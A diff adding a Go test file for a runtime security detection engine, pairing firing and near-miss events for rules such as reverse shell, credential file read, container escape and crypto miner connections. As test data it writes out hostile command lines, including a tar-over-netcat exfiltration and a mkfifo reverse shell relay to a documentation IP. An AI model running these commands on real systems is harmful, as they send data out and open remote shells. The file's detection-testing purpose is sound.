@@ -1,0 +1,206 @@
+package rules
+
+import (
+	"net/netip"
+	"testing"
+
+	"github.com/driftwatch/driftwatch/event"
+)
+
+func defaultCases() []falcoCase {
+	cshell := func(p *event.Process) *event.Process { return inCtr(lineage(p, proc("sh", "/bin/sh")), ctr()) }
+	dup := func(typ event.FDType, name string) *event.Enriched {
+		e := sysEv(cshell(proc("bash", "/bin/bash", "bash", "-i")), event.SysDup2, 0)
+		e.Fd, e.Fd2 = 3, 0
+		e.FD = &event.FD{Num: 3, Type: typ, Name: "10.1.2.3:40000->203.0.113.9:4444", Proto: event.ProtoTCP,
+			Local: netip.MustParseAddrPort("10.1.2.3:40000"), Remote: netip.MustParseAddrPort("203.0.113.9:4444")}
+		if typ == event.FDPipe {
+			e.FD.Name = "pipe:[1234]"
+		}
+		_ = name
+		return e
+	}
+	accept := func(client string, port uint16) *event.Enriched {
+		e := sysEv(inCtr(proc("nginx", "/usr/sbin/nginx"), ctr()), event.SysAccept4, 7)
+		e.Family, e.Proto = event.AFInet, event.ProtoTCP
+		e.Src = netip.AddrPortFrom(netip.MustParseAddr(client), 50000)
+		e.Dst = netip.AddrPortFrom(netip.MustParseAddr("10.1.2.3"), port)
+		return e
+	}
+	setuid := func(parentUid uint32) *event.Enriched {
+		par := proc("bash", "/bin/bash")
+		par.Euid = parentUid
+		p := lineage(proc("exploit", "/tmp/exploit"), par)
+		e := sysEv(p, event.SysSetuid, 0)
+		e.Euid, e.Uid = 0, 0
+		return e
+	}
+	chmod := func(mode uint32) *event.Enriched {
+		e := sysEv(lineage(proc("chmod", "/bin/chmod"), proc("bash", "/bin/bash")), event.SysFchmodat, 0)
+		e.Path, e.Mode = []byte("/tmp/rootshell"), mode
+		return e
+	}
+	ptrace := func(req uint32) *event.Enriched {
+		e := sysEv(proc("injector", "/tmp/injector"), event.SysPtrace, 0)
+		e.Flags, e.Arg3 = req, 1
+		return e
+	}
+	return []falcoCase{
+		{"Unexpected outbound connection",
+			func() *event.Enriched { return connectEv(cshell(proc("curl", "/usr/bin/curl")), "198.51.100.7", 8081) },
+			func() *event.Enriched { return connectEv(cshell(proc("curl", "/usr/bin/curl")), "198.51.100.7", 443) }},
+		{"Unexpected inbound connection",
+			func() *event.Enriched { return accept("198.51.100.7", 2222) },
+			func() *event.Enriched { return accept("198.51.100.7", 443) }},
+		{"Crypto miner stratum connection",
+			func() *event.Enriched {
+				return connectEv(inCtr(proc("xmrig", "/tmp/xmrig", "xmrig", "-o", "pool:3333"), ctr()), "198.51.100.7", 3333)
+			},
+			func() *event.Enriched {
+				return connectEv(inCtr(proc("java", "/usr/bin/java", "java", "-jar", "app.jar"), ctr()), "10.0.0.7", 3333)
+			}},
+		{"Scanner or attack tool launched",
+			func() *event.Enriched { return execEv(cshell(proc("nmap", "/usr/bin/nmap", "nmap", "-sS", "10.0.0.0/24"))) },
+			func() *event.Enriched { return execEv(cshell(proc("nc", "/usr/bin/nc", "nc", "-z", "db", "5432"))) }},
+		{"Credential file read", catShadow,
+			func() *event.Enriched {
+				p := lineage(proc("sudo", "/usr/bin/sudo", "sudo", "id"), proc("bash", "/usr/bin/bash"))
+				return openEv(p, "/etc/shadow", 0)
+			}},
+		{"Kubernetes service account token read",
+			func() *event.Enriched {
+				return openEv(cshell(proc("cat", "/bin/cat")), "/var/run/secrets/kubernetes.io/serviceaccount/token", 0)
+			},
+			func() *event.Enriched {
+				return openEv(cshell(proc("cat", "/bin/cat")), "/var/run/secrets/kubernetes.io/serviceaccount/namespace", 0)
+			}},
+		{"Credential file written",
+			func() *event.Enriched {
+				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/root/.ssh/authorized_keys", oWronly|oAppend)
+			},
+			func() *event.Enriched {
+				return openEv(lineage(proc("bash", "/bin/bash"), proc("sshd", "/usr/sbin/sshd")), "/root/.ssh/known_hosts", oWronly|oAppend)
+			}},
+		{"Non-root process became root", func() *event.Enriched { return setuid(1000) }, func() *event.Enriched { return setuid(0) }},
+		{"Setuid or setgid bit set", func() *event.Enriched { return chmod(0o4755) }, func() *event.Enriched { return chmod(0o755) }},
+		{"Capabilities changed in container",
+			func() *event.Enriched { return sysEv(cshell(proc("python3", "/usr/bin/python3")), event.SysCapset, 0) },
+			func() *event.Enriched { return sysEv(cshell(proc("runc", "/usr/bin/runc")), event.SysCapset, 0) }},
+		{"Process attached with ptrace", func() *event.Enriched { return ptrace(16) }, func() *event.Enriched { return ptrace(1) }},
+		{"Mount in container",
+			func() *event.Enriched {
+				e := sysEv(cshell(proc("mount", "/bin/mount")), event.SysMount, 0)
+				e.Path, e.Path2 = []byte("/dev/sda1"), []byte("/mnt")
+				return e
+			},
+			func() *event.Enriched {
+				e := sysEv(cshell(proc("mount", "/bin/mount")), event.SysMount, -1)
+				e.Path, e.Path2 = []byte("/dev/sda1"), []byte("/mnt")
+				return e
+			}},
+		{"Kernel module loaded from container",
+			func() *event.Enriched { return sysEv(cshell(proc("insmod", "/sbin/insmod")), event.SysFinitModule, 0) },
+			func() *event.Enriched { return sysEv(proc("modprobe", "/sbin/modprobe"), event.SysFinitModule, 0) }},
+		{"Write below /proc/sys from container",
+			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/proc/sys/kernel/core_pattern", oWronly) },
+			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/proc/sys/kernel/core_pattern", 0) }},
+		{"Cgroup release_agent written",
+			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/tmp/cg/release_agent", oWronly) },
+			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/tmp/cg/release_agent", 0) }},
+		{"Archive sent with network tool",
+			func() *event.Enriched {
+				p := inCtr(lineage(proc("nc", "/usr/bin/nc", "nc", "198.51.100.7", "4444"), proc("sh", "/bin/sh", "sh", "-c", "tar czf - /data | nc 198.51.100.7 4444")), ctr())
+				return execEv(p)
+			},
+			func() *event.Enriched {
+				p := inCtr(lineage(proc("curl", "/usr/bin/curl", "curl", "https://example.com/health"), proc("sh", "/bin/sh", "sh", "-c", "curl https://example.com/health")), ctr())
+				return execEv(p)
+			}},
+		{"Reverse shell", func() *event.Enriched { return dup(event.FDIPv4, "") }, func() *event.Enriched { return dup(event.FDPipe, "") }},
+		{"Named pipe used for a shell relay",
+			func() *event.Enriched {
+				return execEv(inCtr(lineage(proc("mkfifo", "/usr/bin/mkfifo", "mkfifo", "/tmp/f"),
+					proc("sh", "/bin/sh", "sh", "-c", "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f")), ctr()))
+			},
+			func() *event.Enriched {
+				return execEv(inCtr(lineage(proc("mkfifo", "/usr/bin/mkfifo", "mkfifo", "/tmp/f"), proc("make", "/usr/bin/make", "make", "test")), ctr()))
+			}},
+		{"Fileless execution from memfd",
+			func() *event.Enriched {
+				p := lineage(proc("3", "memfd:x", "3"), proc("python3", "/usr/bin/python3"))
+				p.ExeMemfd = true
+				return execEv(p)
+			},
+			func() *event.Enriched {
+				p := lineage(proc("runc", "memfd:runc_cloned:/proc/self/exe", "runc"), proc("containerd-shim", "/usr/bin/containerd-shim"))
+				p.ExeMemfd = true
+				return execEv(p)
+			}},
+		{"Drop and execute in container",
+			func() *event.Enriched {
+				p := cshell(proc("payload", "/tmp/payload"))
+				p.ExeCtime = tNow - 10*second // created after the container started
+				return execEv(p)
+			},
+			func() *event.Enriched {
+				p := cshell(proc("ls", "/bin/ls"))
+				p.ExeCtime = tNow - 86400*second
+				return execEv(p)
+			}},
+		{"Interactive shell in container",
+			func() *event.Enriched {
+				p := inCtr(lineage(proc("bash", "/bin/bash"), proc("runc", "/usr/bin/runc")), ctr())
+				p.Tty = 34816
+				return execEv(p)
+			},
+			func() *event.Enriched { return execEv(inCtr(lineage(proc("bash", "/bin/bash"), proc("runc", "/usr/bin/runc")), ctr())) }},
+		{"Package manager in container",
+			func() *event.Enriched { return execEv(cshell(proc("apt-get", "/usr/bin/apt-get", "apt-get", "install", "nmap"))) },
+			func() *event.Enriched { return execEv(lineage(proc("apt-get", "/usr/bin/apt-get", "apt-get", "update"), proc("bash", "/bin/bash"))) }},
+		{"Write below binary directory",
+			func() *event.Enriched { return openEv(cshell(proc("curl", "/usr/bin/curl")), "/usr/local/bin/kubectl", oWronly|oCreat) },
+			func() *event.Enriched { return openEv(cshell(proc("curl", "/usr/bin/curl")), "/usr/local/binaries/x", oWronly|oCreat) }},
+		{"Write below /etc in container",
+			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/etc/crontab", oWronly|oTrunc) },
+			func() *event.Enriched { return openEv(cshell(proc("sh", "/bin/sh")), "/etc/crontab", 0) }},
+	}
+}
+
+func TestDefaultRulesFireAndMiss(t *testing.T) {
+	rs := loadDefaults(t)
+	// A miner's pool connection is also unexpected egress; both must fire.
+	also := map[string][]string{"Crypto miner stratum connection": {"Unexpected outbound connection"}}
+	covered := map[string]bool{}
+	for _, tc := range defaultCases() {
+		covered[tc.rule] = true
+		t.Run(tc.rule, func(t *testing.T) {
+			want := append([]string{tc.rule}, also[tc.rule]...)
+			if got := rs.Match(tc.fire()); !sameSet(got, want) {
+				t.Errorf("firing event matched %q, want exactly %q", got, want)
+			}
+			if got := rs.Match(tc.miss()); len(got) != 0 {
+				t.Errorf("near miss matched %q, want nothing", got)
+			}
+		})
+	}
+	for _, r := range rs.Rules() {
+		if !covered[r.Name] {
+			t.Errorf("default rule %q has no test case", r.Name)
+		}
+		if r.EventTypes == nil {
+			t.Errorf("default rule %q runs for every event type", r.Name)
+		}
+	}
+}
+
+// The defaults and the stable set load together (no name clashes).
+func TestDefaultsWithStableSet(t *testing.T) {
+	rs, _, err := Load([]string{sharedRules(t)}, Options{IncludeDefault: true, Users: testUsers})
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := rs.Match(catShadow())
+	if !sameSet(got, []string{"Credential file read", "Read sensitive file untrusted"}) {
+		t.Errorf("cat /etc/shadow matched %q", got)
+	}
+}
